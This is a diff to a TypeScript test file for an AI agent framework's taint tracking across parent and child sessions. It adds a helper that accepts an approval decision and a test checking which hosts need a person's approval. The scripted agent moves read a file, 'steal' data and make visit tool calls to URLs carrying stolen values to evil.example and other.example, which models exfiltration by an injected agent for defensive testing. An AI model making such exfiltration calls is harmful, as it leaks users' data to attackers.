@@ -33,12 +33,24 @@ const modelOf = (above: ReadonlyArray<Move>, below: ReadonlyArray<Move>): Model.
 const childIn = ({ messages }: Model.Prompt): string =>
   /ses_[0-9a-f]+/u.exec(JSON.stringify(messages.filter(({ _tag }) => _tag === "ToolResult")))?.[0] ?? ""
 
-const play = Effect.fnUntraced(function* (world: World.World, above: ReadonlyArray<Move>, below: ReadonlyArray<Move>) {
+interface Moves {
+  readonly above: ReadonlyArray<Move>
+  readonly below: ReadonlyArray<Move>
+}
+
+const play = (world: World.World, above: ReadonlyArray<Move>, below: ReadonlyArray<Move>) =>
+  playWith(world, { above, below }, { _tag: "Denied", words: null })
+
+const playWith = Effect.fnUntraced(function* (
+  world: World.World,
+  { above, below }: Moves,
+  decision: Approval.Decision
+) {
   const asked: Array<Approval.Request> = []
-  const deny = (request: Approval.Request): Effect.Effect<Channel.Answer> =>
+  const answer = (request: Approval.Request): Effect.Effect<Channel.Answer> =>
     Effect.sync(() => {
       asked.push(request)
-      return { decision: { _tag: "Denied", words: null }, principal: "ada" }
+      return { decision, principal: "ada" }
     })
   const childAgent: Tree.ChildAgent = (kind) => Effect.succeed(agentOf(world, kind, SessionPack.all))
   const session = yield* Session.open({
@@ -46,7 +58,7 @@ const play = Effect.fnUntraced(function* (world: World.World, above: ReadonlyArr
     sessionId: null,
     childAgent
   }).pipe(
-    Effect.provideService(Channel.Channel, World.channelOf([], deny)),
+    Effect.provideService(Channel.Channel, World.channelOf([], answer)),
     Effect.provideService(Model.Model, modelOf(above, below))
   )
   yield* session.run(World.say(`read ${page}`))
@@ -112,6 +124,39 @@ describe("taint in a tree", () => {
         )
         assert.strictEqual(asked.length, 1)
         assert.notInclude(world.log, `visit ${stolen}`)
+      })
+    )
+  )
+
+  it.effect("a host that a person agreed to is open to all of the tree, above and below who asked", () =>
+    Grove.run(
+      Effect.gen(function* () {
+        const world = World.makeWorld()
+        const other = stolen.replace("evil", "other")
+        const goesOn: Move = () => Reply.toolCall("visit", { url: `${stolen}&more` })
+        const { asked, childId } = yield* playWith(
+          world,
+          {
+            above: [
+              readsFile,
+              steals,
+              spawns,
+              waits,
+              () => Reply.toolCall("visit", { url: `${other}&more` }),
+              says("done")
+            ],
+            below: [readsFile, goesOn, () => Reply.toolCall("visit", { url: other }), says("ok")]
+          },
+          { _tag: "Approved", rule: null }
+        )
+        assert.deepStrictEqual(
+          asked.map(({ opensHost, sessionPath }) => [opensHost, sessionPath.at(-1) === childId]),
+          [
+            ["evil.example:443", false],
+            ["other.example:443", true]
+          ]
+        )
+        assert.strictEqual(world.log.length, 4)
       })
     )
   )
